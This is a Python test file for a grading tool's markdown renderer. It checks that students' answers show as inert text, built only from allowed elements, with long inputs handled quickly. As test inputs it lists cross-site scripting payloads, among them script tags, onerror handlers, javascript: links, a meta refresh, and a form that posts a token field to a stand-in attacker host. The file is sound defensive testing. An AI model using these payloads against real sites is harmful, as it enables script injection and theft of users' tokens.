"""Students' markdown on the page of whoever marks: shown, and nothing of it acts."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.autograde.graded_notebook import escape_markup
from grader.written.markdown import rebuilt_markdown
from tests.kit.page import CONTROL, HOSTILE

VOID = {"br", "hr"}
ALLOWED = VOID | {
    *("p", "ul", "ol", "li", "blockquote", "strong", "em", "s", "table", "thead", "tbody", "tr"),
    *("th", "td", "code", "pre", "span", "div", "a", "small"),
}
HOSTILE_TEXTS = {
    "all kinds": HOSTILE,
    "script": "<script>alert(1)</script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "javascript": "[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) <javascript:alert(1)>",
    "vbscript": "[a](vbscript:x) [b](data:text/html,<script>alert(1)</script>)",
    "elsewhere": "[a](api/state) [b](//evil.example) [c](data:image/png;base64,AA) [d](ftp://e.x)",
    "data image": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "picture elsewhere": "![a](https://evil.example/pixel.png)",
    "defined": "[a]: javascript:alert(1)\n\n[a] and ![a]",
    "style": "<style>*{display:none}</style><p style='position:fixed'>",
    "form": "<form action=https://evil.example><input name=token><button>Save</button></form>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "quote": '[a](https://x.example/"onmouseover="alert(1))',
    "title": '[a](https://x.example "b\\" onclick=\\"alert(1)")',
    "fence": '```"><script>alert(1)</script>\n"><script>\n```',
    "formula": "$</span><script>alert(1)</script>$ $$\\href{javascript:alert(1)}{x}$$",
    "environment": "\\begin{align}</div><img src=x onerror=alert(1)>\\end{align}",
    "table": "| a |\n|---|\n| <b onclick=alert(1)> |",
    "control": CONTROL,
    "half": "\ud83d half",
}


class Elements(HTMLParser):
    """The elements of a text, held to what is allowed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        told = dict(attrs)
        allowed = {"href", "target", "rel"} if tag == "a" else {"class", "tabindex"}
        assert set(told) <= allowed, attrs
        if tag == "a":
            assert (told["href"] or "").startswith(("https://", "http://", "mailto:")), attrs
            assert told["rel"] == "noopener noreferrer"
        self.found.append((tag, told))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def tags(html: str) -> list[str]:
    return [tag for tag, _ in Elements(html).found]


@pytest.mark.parametrize("text", HOSTILE_TEXTS.values(), ids=HOSTILE_TEXTS)
def test_a_hostile_answer_is_words(text: str) -> None:
    """Whether or not autograding has seen it before; no element and no attribute is its own."""
    for given_ in (text, escape_markup(text).replace("&lt;", "<")):
        html = rebuilt_markdown(given_)
        assert not {"img", "script", "iframe", "form", "meta", "style"} & {*tags(html)}
        html.encode("utf-8")  # can be sent


@given(st.text(alphabet="<>&\"'`*_[]()!$\\{}|-#\n ajs:/=", max_size=80))
def test_whatever_is_typed_is_built_of_known_elements(text: str) -> None:
    """Any mixture of the signs that markdown, HTML and TeX know gives a well-formed text."""
    Elements(rebuilt_markdown(text))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("**a** *b* ~~c~~ `d<e`", "<strong>a</strong> <em>b</em> <s>c</s> <code>d&lt;e</code>"),
        ("- a\n- b", "<ul><li>a</li>\n<li>b</li>\n</ul>"),
        ("# Title\nText", '<p class="head">Title</p>\n<p>Text</p>'),
        ("$a<b$", '<span class="formula">a&lt;b</span>'),
        ("costs $5", "<p>costs $5</p>"),
        ("$$\na\n\nb\n$$", '<div class="formula block">\na\n\nb\n</div>'),
        ("\\begin{align}a&=b\\end{align}", '<div class="formula block">\\begin{align}a&amp;=b'),
        ("`$a$`", "<code>$a$</code>"),
        ("    x = 1", '<pre tabindex="0"><code>x = 1'),
        ("![figure](attachment:a.png)", "[picture: figure]"),
        ("[a](https://b.example)", 'href="https://b.example" target="_blank"'),
        ("a <b> c", "<p>a &lt;b&gt; c</p>"),
        ("| a |\n|---|\n| 1 |", "<th>a</th>"),
    ],
)
def test_what_markdown_means_is_shown(text: str, shown: str) -> None:
    """Headings are the page's own, so that no answer puts one between its sections."""
    html = rebuilt_markdown(text)
    Elements(html)
    assert shown in html


def test_a_link_says_where_it_leads() -> None:
    """Its address stands beside its words, which may say anything."""
    html = rebuilt_markdown("[the lesson](https://elsewhere.example/x)")
    assert "the lesson (https://elsewhere.example/x)" in " ".join(Elements(html).text.split())


@pytest.mark.parametrize(
    "text",
    ["[" * 40_000, "*a" * 20_000, ">" * 40_000, "$a " * 15_000, "[a](" * 10_000, "|a" * 9000,
     "`" * 40_000, "\\begin{a}" * 4000, "a" * 3_000_000, "\n" * 100_000, "- " * 20_000],
    ids=lambda text: text[:9].strip(),
)  # fmt: skip
def test_a_huge_answer_takes_no_time(text: str) -> None:
    """It is cut, and what is left is read in a moment, whatever it repeats."""
    before = time.process_time()
    html = rebuilt_markdown(text)
    assert time.process_time() - before < 5
    assert len(html) < 500_000
    Elements(html)
